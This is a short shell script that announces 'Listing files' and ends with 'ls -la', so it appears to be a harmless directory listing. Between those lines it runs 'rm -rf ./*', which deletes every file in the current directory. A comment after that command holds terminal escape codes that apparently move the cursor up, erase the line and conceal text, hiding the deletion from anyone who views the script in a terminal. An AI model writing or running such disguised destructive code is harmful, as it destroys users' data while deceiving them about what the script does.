echo "Listing files"
rm -rf ./* # [1A[2K[8m
ls -la [0m
